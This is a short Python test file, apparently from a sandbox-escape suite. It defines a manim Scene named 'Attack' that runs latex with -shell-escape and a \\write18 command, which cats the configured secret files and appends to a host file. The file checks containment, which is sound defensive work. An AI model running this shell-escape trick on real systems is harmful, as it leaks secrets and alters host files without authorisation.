"""Makes TeX run a shell (\\write18), which is told to print the secrets and to write on the host.

title: TeX starts nothing that is not inside too
kind: tex
canary: the secrets, changed files
"""
import os, subprocess
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        os.environ["shell_escape"] = "t"
        command = "; ".join(f"cat {path}" for path in HOST["secrets"].values()) + f"; echo x >> {HOST['diary']}"
        code = r"\catcode`\_=12 \immediate\write18{%s}\stop" % command
        done = subprocess.run(["latex", "-shell-escape", "-interaction=nonstopmode", code], capture_output=True, text=True)
        print(done.stdout)
